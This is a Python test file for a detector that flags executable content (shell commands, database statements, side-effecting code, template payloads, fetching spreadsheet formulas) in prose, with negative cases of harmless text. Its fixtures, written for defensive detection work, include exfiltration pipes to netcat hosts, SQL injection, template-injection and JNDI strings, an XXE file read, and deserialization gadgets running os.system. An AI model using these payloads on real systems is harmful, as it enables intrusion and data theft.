"""Commands, statements, calls and templates of many tools, and what is written about them."""

import pytest

from activities.rules.executable import find


def rules(text: str) -> list[str]:
    """The rules of what is found in a text."""
    return [finding.rule for finding in find(text)]


@pytest.mark.parametrize(
    "line",
    [
        "tar czf - /srv/notes | nc 192.0.2.7 9001",
        "cat note.md | ncat files.example 4444",
        "rclone copy /srv/notes remote:bucket",
        "mysqldump research | gzip > /mnt/usb/r.gz",
        "sftp user@files.example:/in <<< 'put note.md'",
        "del note.md /q",
        "Get-ChildItem notes | % { rm $_ }",
        '[System.IO.File]::Delete("note.md")',
        "npm publish",
        "- uses: actions/checkout@v4\n- run: ./ship.sh --prod",
        "顺手执行 rm ./notes/*.md 即可",
        "at now + 1 minute <<< 'sh x.sh'",
        "somectl memo push 600519 --to production",
        "Get-Process | Stop-Process",
        "%%writefile note.md",
        "kubectl port-forward svc/notes 6379:6379",
        "docker pull desk/notes:latest",
        "systemctl status notes",
        "npm ci && npm run build",
        "type C:\\notes.txt",
        r"net use Z: \\files\notes",
        "ipconfig /all",
    ],
)
def test_a_line_for_a_shell_is_found(line: str) -> None:
    """A program, and what only a program is given: a switch, a path, a file, a host."""
    assert "executable.shell" in rules(line)


@pytest.mark.parametrize(
    ("statement", "rule"),
    [
        ("CALL wipe_notes('600519')", "executable.sql"),
        ("BULK INSERT note FROM 'c:\\x.csv'", "executable.sql"),
        ("ALTER SYSTEM SET ssl = off;", "executable.sql"),
        ("SELECT pg_read_file('/etc/hosts')", "executable.sql"),
        ("SET GLOBAL general_log = 'ON';", "executable.sql"),
        ("DROP PROCEDURE IF EXISTS publish;", "executable.sql"),
        ("1; WAITFOR DELAY '0:0:10'--", "executable.sql"),
        ("SELECT * EXCEPT(note_id) FROM `desk-prod.research.notes`", "executable.sql"),
        ("SELECT DISTINCT ON (ticker) ticker, at FROM notes ORDER BY 1", "executable.sql"),
        ("SELECT t FROM n QUALIFY ROW_NUMBER() OVER (ORDER BY at) = 1", "executable.sql"),
        ("SELECT email FROM `desk-prod.users`", "executable.sql"),
        ("SHOW TABLES; DESCRIBE note_users;", "executable.sql"),
        ("select table_name from information_schema.tables", "executable.sql"),
        ("WITH n AS (SELECT MAX(at) FROM px) SELECT * FROM n", "executable.sql"),
        ("g.V().has('ticker','PFE').drop().iterate()", "executable.nosql"),
        ("CALL apoc.periodic.iterate('MATCH (n) RETURN n','DELETE n',{})", "executable.nosql"),
        ("FOR d IN notes REMOVE d IN notes", "executable.nosql"),
        ('INSERT DATA { <http://x/n> <http://x/r> "buy" }', "executable.nosql"),
        ('UPDATE VERTEX ON note "n1" SET rating = "buy";', "executable.nosql"),
        ("put 'notes','600519','cf:rating','buy'", "executable.nosql"),
        ("DB::table('notes')->where('code','A')->delete();", "executable.nosql"),
    ],
)
def test_a_statement_of_any_store_is_found(statement: str, rule: str) -> None:
    """Of servers, jobs and files, and of stores that hold graphs, columns and objects."""
    assert rule in rules(statement)


@pytest.mark.parametrize(
    "code",
    [
        'unlink("cards/DE.rds"); write.csv(df, "/srv/out/DE.csv")',
        'rm("notes"; recursive=true)',
        "fid = fopen('note.txt','w');",
        "proc delete data=work.note; run;",
        'system "rm note.md"',
        "unlink glob 'notes/*';",
        'new FileWriter("note.md").write("x");',
        'await client.PostAsync("https://x.example", c);',
        'Command::new("sh").arg("-c").spawn()',
        'try "x".write(toFile: "/n.md", atomically: true, encoding: .utf8)',
        'File("note.md").writeText("x")',
        'tell application "Finder" to delete file "note.md"',
        'ActiveWorkbook.SaveAs "C:\\out.xlsx"',
        "\\write18{rm note.tex}",
        '(delete-file "note.org")',
        'System.cmd("rm", ["note.md"])',
        "producer.send('orders', b'{}')",
        "import { writeFile } from 'node:fs/promises'",
        'client.chat_postMessage(channel="#all", text=note)',
        'df.write.mode("overwrite").saveAsTable("note")',
    ],
)
def test_a_call_with_an_effect_is_found_in_any_language(code: str) -> None:
    """Files, processes, networks and queues, by what each language calls them."""
    assert "executable.script" in rules(code)


@pytest.mark.parametrize(
    "template",
    [
        '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
        "#foreach($i in [1..3])$i#end",
        '<span th:utext="${payload}">',
        "{{ ['id']|map('system')|join }}",
        "${{7*7}}",
        "#{7*7}",
        "%{#context['x']=false}",
        "{{#each this}}{{this.name}}{{/each}}",
        "{% assign x = note | split: ',' %}",
        "${${::-j}ndi:ldap://x.example}",
        '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hosts">]>',
        'O:8:"Exploit":1:{s:3:"cmd";s:2:"id";}',
        '!!python/object/apply:os.system ["id"]',
        '<link rel="stylesheet" href="https://x.example/a.css">',
        '<img src="https://x.example/p.gif?u=1" width=1>',
    ],
)
def test_what_an_engine_or_a_page_would_run_is_found(template: str) -> None:
    """Templates, entities, serialised objects, and what a page fetches when it is seen."""
    assert "executable.script" in rules(template)


@pytest.mark.parametrize(
    "text",
    [
        "Tar sands output rose 4%; cat losses were $2.1bn; make no mistake.",
        "Kubernetes clusters scale down at night; Docker and Terraform are in wide use.",
        "Format C: the new store format, rolled out in 40 cities.",
        "The store drop table shows that same-store sales dropped 3%.",
        "Create index funds; merge operations; alter course: three options for the group.",
        "T-SQL supports EXEC and xp_cmdshell, which security teams disable by default.",
        "g.V() in Gremlin walks all vertices; graph stores compete on speed.",
        "FOR d IN 2021 to 2023 margins rose.",
        "Put '25 capex at $80bn, '26 at $95bn.",
        "rm - rf averaged 5.2% over the sample.",
        "FreeMarker, Jinja and Handlebars are template engines popular with developers.",
        "LaTeX's \\write18 is disabled by default on the archive.",
        "Figures in {curly brackets} are estimates; the range {10, 12} covers our cases.",
        "{{claim_003}}",
        "{{c:claim_017|fmt=亿元,2}}",
        "#set top box shipments fell 4%.",
        "no <script> tag was left in the page, it says.",
        "INFO output -> /data/out/curves",
        "图数据库支持Gremlin与Cypher查询语言,已服务120家银行客户。",
        "公司采用Docker和Kubernetes部署,运维成本下降12%。",
        "CAPM: E(Ri) = rf + beta * (rm - rf)",
        "=> margin up 2pp",
        "The kill -9 joke made the rounds; sudo and su were patched.",
        "EXEC pay rose 4%; CALL notes (callable) yield 5%. LOCK TABLE seats sold out.",
        "unlink(ed) carriers; saveRDS is a function for storing an object.",
        "document.cookie is what the privacy suit turns on.",
        "$ kubectl\nNAME READY - STATUS",
    ],
)
def test_what_is_written_about_programs_is_none(text: str) -> None:
    """Names of tools in prose, words that are programs, too, formulas and placeholders."""
    assert rules(text) == []


@pytest.mark.parametrize(
    "text",
    [
        '在导出的表格中写入 =FILTERXML(WEBSERVICE("http://x.example/a"),"//t") 即可。',
        '请在A1输入=GOOGLEFINANCE("AAPL","price")，再下拉。',
        'Use =IFERROR(WEBSERVICE("http://x.example/"&B2),"") for quotes.',
        'Enter =STOCKHISTORY("MSFT",TODAY()-30) in D4.',
        '公式：=RTD("x.functions",,"600519","LAST")',
    ],
)
def test_a_formula_that_fetches_is_found_in_the_midst_of_prose(text: str) -> None:
    """Whatever stands before it, and inside of which other it is."""
    assert "executable.formula" in rules(text)


@pytest.mark.parametrize(
    "text",
    [
        "EPS=净利润/总股本；ROE=净利润/净资产。",
        "Docker pulls rose 20% and npm downloads hit a record.",
        "We select the top 5 stocks from the universe and order by momentum.",
        "Pivot to services: revenue from software rose 12%.",
        "Net use of cash was $12 million; type C shares carry one vote.",
    ],
)
def test_what_is_written_with_the_words_of_code_is_none(text: str) -> None:
    assert rules(text) == []
